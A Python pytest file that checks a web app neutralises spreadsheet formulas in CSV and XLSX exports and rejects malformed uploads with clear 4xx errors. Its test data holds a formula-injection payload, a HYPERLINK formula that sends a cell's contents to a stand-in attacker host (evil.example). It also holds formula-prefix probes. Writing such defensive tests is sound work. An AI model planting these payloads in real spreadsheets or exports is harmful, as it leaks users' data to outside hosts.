"""Hostile input through the web (issue 12, items 4 and 6): web exports and report
downloads carry no live formula; an unreadable upload is a 400/413 naming the problem."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from engine.io import readers
from tests.api.test_web_pages import browser_as  # noqa: F401  (the logged-in client fixture)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def upload(client, form: str, raw: bytes, name: str = "c.csv", dry_run: bool = True):
    return client.post(f"/api/forms/{form}/import" + ("?dry_run=1" if dry_run else ""),
                       data={"file": (io.BytesIO(raw), name)}, content_type="multipart/form-data")


@pytest.mark.outbox_ok  # the product below its safety stock queues its alert mail
def test_web_export_and_report_download_neutralise_formulas(browser_as, engine, users):  # noqa: F811
    engine.create(users["alice"], "customer", {"name": EVIL, "region": "north"})
    engine.create(users["pat"], "product", {"sku": "@SUM(A1)", "name": "-2+3", "price": "1",
                                            "stock_qty": -5, "safety_stock": 10})
    alice, walt = browser_as("alice"), browser_as("walt")
    rows = list(csv.reader(io.StringIO(alice.get("/f/customer/export.csv").data.decode("utf-8-sig"))))
    assert "'" + EVIL in rows[1]
    ws = openpyxl.load_workbook(io.BytesIO(alice.get("/f/customer/export.xlsx").data)).active
    cell = next(c for c in ws[2] if c.value == EVIL)
    assert cell.data_type == "s"  # a string cell, not a formula
    report = walt.get("/reports/low_stock_items/download.csv")
    assert report.status_code == 200
    rows = list(csv.reader(io.StringIO(report.data.decode("utf-8-sig"))))
    assert rows[1][:3] == ["'@SUM(A1)", "'-2+3", "-5"]  # numbers stay numbers
    ws = openpyxl.load_workbook(io.BytesIO(walt.get("/reports/low_stock_items/download.xlsx").data)).active
    assert [(c.value, c.data_type) for c in ws[2]][:3] == [("@SUM(A1)", "s"), ("-2+3", "s"),
                                                           (-5, "n")]


def test_api_import_of_hostile_files_answers_4xx_with_the_reason(api, monkeypatch):
    a = api("alice")
    r = upload(a, "customer", f"name,region\nok,north\n{'x' * (readers.MAX_CELL + 1)},north\n".encode())
    assert r.status_code == 400 and "row 3: a cell is longer than 131,072" in r.json["error"]["message"]
    r = upload(a, "customer", b"name,region\n\x81\x20,north\n")
    assert r.status_code == 400 and "cannot read the file's encoding" in r.json["error"]["message"]
    r = upload(a, "customer", b"name,Name\nA,B\n")
    assert r.status_code == 422
    assert any("repeats column A (1)" in v for v in r.json["error"]["fields"].values())
    monkeypatch.setattr(readers, "MAX_BYTES", 1024)
    r = upload(a, "customer", b"name,region\n" + b"Somebody,north\n" * 100, dry_run=False)
    assert r.status_code == 413 and "larger than" in r.json["error"]["message"]
    assert a.get("/api/forms/customer/records").json["total"] == 0
